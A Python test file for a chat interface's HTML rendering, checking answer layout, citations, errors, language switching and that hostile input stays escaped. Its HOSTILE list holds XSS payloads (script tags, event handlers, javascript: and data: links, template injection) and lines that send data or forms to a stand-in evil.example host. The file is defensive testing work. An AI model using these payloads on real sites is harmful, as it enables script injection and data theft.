"""Events become messages: what is shown while a turn runs, when it ends, and that hostile text stays text."""

from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from assistant.calls import parse_call
from assistant.errors import UnknownModel
from assistant.events import Answer, CallRecord, Cited, Conversation, Done, Reading, TextDelta, ToolStarted, Understood
from tests.fakes import FakeAssistant, fit_json
from ui.blocks import finished_html, running_html, sources_html
from ui.panels import files_html, hits_html, machine_html
from ui.render import LONGEST_QUESTION, Turn, conversation_messages
from ui.safe import clean, markdown
from ui.session import Session, run

HOSTILE = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '"><svg onload=window.pwned=1>',
    "[click](javascript:window.pwned=1)",
    "![x](http://evil.example/?q=secret)",
    "<iframe src='javascript:window.pwned=1'></iframe>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "'\" onmouseover=window.pwned=1 x='",
    "</div></details><script>window.pwned=1</script>",
    "`<b>code</b>` ```\n<script>window.pwned=1</script>\n```",
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}",
    "[1]: javascript:window.pwned=1\n\n[1]",
    "text\n\n<style>*{display:none}</style>\n\n<form action=http://evil.example><button>x</button></form>",
]  # fmt: skip
TAGS = {
    "a", "b", "blockquote", "br", "button", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "input", "label", "li", "ol", "option", "p", "pre", "s", "select", "span", "strong",
    "summary", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "class", "colspan", "for", "href", "id", "lang", "name", "open", "rel", "selected", "size", "start", "style",
    "title", "type", "value",
}  # fmt: skip


class Reader(HTMLParser):
    """Collects tags, attributes and text; refuses what the page never writes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert (value or "").startswith(("#src-", "http://", "https://", "mailto:")), value
        if tag not in ("br", "hr", "input"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, f"</{tag}> does not close anything"

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> Reader:
    """Parse HTML, asserting that it is one line, well nested and of allowed parts only."""
    assert "\n" not in html
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return reader


def played(question: str = "コーディング用は？", text: str | None = None) -> Turn:
    """A whole turn of the fake assistant."""
    turn = Turn(1, question)
    for event in FakeAssistant(Path("/nowhere"), text=text).answer(question, Conversation()):
        turn.fold(event)
    return turn


def html_of(messages: list[dict[str, Any]]) -> str:
    return "".join(piece["text"] for message in messages for piece in message["content"])


def test_a_finished_turn_shows_the_answer_first_and_what_it_rests_on_below():
    user, reply = played().messages("ja")
    assert (user["role"], reply["role"]) == ("user", "assistant")
    kinds = [piece["text"].split('class="')[1].split('"')[0].split()[0] for piece in reply["content"]]
    assert kinds == ["mk-reading", "mk-answer", "mk-remarks", "mk-chart", "mk-tool", "mk-sources", "mk-foot", "mk-next"]


def test_a_tool_is_pending_until_its_result_is_there():
    turn = Turn(1, "q")
    call = parse_call("recommend", {"task": "coding"})
    turn.fold(Understood(Reading(call, 0.9, "en")))
    turn.fold(ToolStarted("recommend", {"task": "coding"}))
    assert "mk-tool pending" in html_of(turn.messages("en"))
    assert "mk-tool pending" not in html_of(played().messages("en"))
    assert "mk-tool done" in html_of(played().messages("en"))


def test_text_streams_with_a_caret_that_goes_when_the_turn_is_over():
    turn = Turn(1, "q")
    turn.fold(TextDelta("Take **Qwen3"))
    turn.fold(TextDelta(" 8B**"))
    assert "<strong>Qwen3 8B</strong>" in html_of(turn.messages("en"))
    assert "mk-caret" in html_of(turn.messages("en"))
    assert "mk-caret" not in html_of(played().messages("en"))


def test_a_citation_links_to_its_passage_and_an_unknown_one_stays_text():
    html = html_of(played(text="Fits [1], see [1, 2] and [7] `[1]`.").messages("en"))
    assert html.count('href="#src-1-1"') == 2
    assert html.count('href="#src-1-2"') == 1
    assert 'id="src-1-1"' in html and 'id="src-1-2"' in html
    assert "[7]" in html and "<code>[1]</code>" in html


def test_the_passage_is_shown_as_text_with_its_line_ends():
    shown = read(sources_html((Cited(3, "a.md", "Top > Sub", "**raw**\n\n<b>x</b>", "p. 2"),), 1, "en")).text
    assert "**raw**\n\n<b>x</b>" in shown
    assert "Top > Sub · p. 2" in shown


def test_an_error_is_one_sentence_in_the_page_s_language():
    def fail() -> Any:
        raise UnknownModel("qwen-8", ("qwen3-8b",))

    turn = Turn(1, "q")
    list(run(turn, fail))
    assert "カタログにモデル 'qwen-8' はありません" in read(html_of(turn.messages("ja"))).text
    assert "no model 'qwen-8' in the catalog" in read(html_of(turn.messages("en"))).text


def test_an_unforeseen_error_is_polite_and_logged(caplog):
    session = Session()
    list(session.ask(FakeAssistant(Path("/nowhere")), "crash"))
    html = html_of(session.turns[0].messages("en"))
    assert "mk-error" in html and "ZeroDivisionError" not in html and "Traceback" not in html
    assert "a bug" in caplog.text
    assert "mk-reading" in html  # what was shown stays


def test_a_stopped_turn_says_so_and_keeps_its_text():
    session = Session()
    steps = session.ask(FakeAssistant(Path("/nowhere"), pause=0.05), "q")
    for turn in steps:
        if turn.text:
            break
    steps.close()
    html = html_of(session.turns[0].messages("en"))
    assert "mk-stopped" in html and "mk-answer" in html and "mk-spin" not in html
    assert session.conversation.turns == []


def test_the_figures_are_folded_below_and_what_the_reading_told_is_not_told_again():
    note = {"ja": "一つずつお答えします。", "en": "One at a time."}
    reading = Reading(parse_call("recommend", {}), 0.9, "en", (note,))
    table = "| a |\n|---|\n| 1 |"
    answer = Answer("Use A.", (), (), (), (note["en"], "Mind the gap."), (), "en", {}, {}, reading, table)
    turn = Turn(1, "q")
    turn.fold(Done(answer))
    html = html_of(turn.messages("en"))
    assert html.index("Use A.") < html.index("mk-more") < html.index("<table>")
    assert html.count("One at a time.") == 1 and "Mind the gap." in html


def test_only_the_last_turn_offers_next_questions():
    turns = [played(), played()]
    assert html_of(conversation_messages(turns, "ja")).count("mk-next") == 1


def test_a_question_is_shown_as_it_was_typed_and_cut_when_endless():
    assert "a < b &amp; c&#10;d" in html_of(Turn(1, "a < b & c\nd").messages("en")).replace("&lt;", "<")
    shown = read(html_of(Turn(1, "x" * 100_000).messages("en"))).text
    assert len(shown) < LONGEST_QUESTION + 100 and "100,000" in shown


def test_control_characters_overrides_and_lone_surrogates_are_left_out():
    assert clean("a\x00b\x1bc\ud800d\u202ee\tf\r\ng") == "abcde\tf\ng"
    html_of(Turn(1, "\ud800\x00").messages("ja")).encode("utf-8")


def test_switching_the_language_changes_everything_but_the_answer():
    turn = played()
    japanese, english = html_of(turn.messages("ja")), html_of(turn.messages("en"))
    for words in ("What I understood", "Where the memory goes", "Sources", "Copy", "Choose models"):
        assert words in english and words not in japanese
    assert "をおすすめします" in japanese and "をおすすめします" in english


@pytest.mark.parametrize("evil", HOSTILE)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_hostile_text_stays_text_everywhere(evil, language):
    result = {
        "picks": [
            {"id": evil, "model": evil, "hf_id": evil, "quant": evil, "why": [evil], "fit": fit_json(evil, 1, 1, 9)},
            {"model": evil, evil: evil},
        ],
        "excluded": [{"model": evil, "because": evil}], "ties": [[evil, evil]],
        "passages": [{"file": evil, "text": evil}], "models": [{"model": evil, "scores": {evil: {"score": evil}}}],
        evil: {evil: [evil, {evil: evil}]},
    }  # fmt: skip
    record = CallRecord("recommend", {"task": evil, "hardware": {"gpu": evil}}, result, 1.0)
    call = parse_call("recommend", {"hardware": {"gpu": evil[:200]}, "exclude": [evil[:200]]})
    reading = Reading(call, 0.1, "en", ({"ja": evil, "en": evil},))
    source = Cited(1, evil, evil, evil, evil)
    answer = Answer(
        evil,
        (record,),
        (source,),
        (evil + "a",),
        (evil + "w",),
        (evil,),
        "en",
        {"writer": evil},
        {evil: 1.0},
        reading,
        evil,
    )
    turn = Turn(1, evil, change_text={"ja": evil, "en": evil})
    turn.fold(Done(answer))
    for message in turn.messages(language):
        for piece in message["content"]:
            read(piece["text"])
    read(running_html(evil, {evil: evil}, language))
    read(finished_html(record, language))
    read(finished_html(CallRecord("compare", {}, result, 1.0), language))


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_file_names_machines_and_passages_stay_text(evil):
    from assistant.hardware.machine import Device, Machine
    from index.types import FileStatus, Hit, Passage

    status = FileStatus(evil, "user", "failed", 0, {"ja": evil, "en": evil}, evil)
    assert clean(evil) in read(files_html([status], 1, evil, [{"ja": evil, "en": evil}], "ja")).text
    hit = Hit(1, 0.5, Passage("p", evil, evil, evil, "en", "user", evil))
    assert clean(evil) in read(hits_html([hit], evil, "en")).text
    read(hits_html([], evil, "en"))
    device = Device(evil, "nvidia", "cuda", 8192, 8192, None, None)
    assert evil in read(machine_html(Machine((device,), None, None, evil, 4, None, "stated", "", (evil,)), "ja")).text


def test_markdown_keeps_tables_code_and_safe_links_only():
    text = "| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx\n\ny\n```\n\n<https://example.org> [m](mailto:a@b.c)"
    html = markdown(text + " ![alt](https://evil.example/x.png)")
    assert read(html).text.count("x\n\ny") == 1
    assert "<table>" in html and 'href="https://example.org"' in html and 'href="mailto:a@b.c"' in html
    assert "alt" in html and "evil" not in html
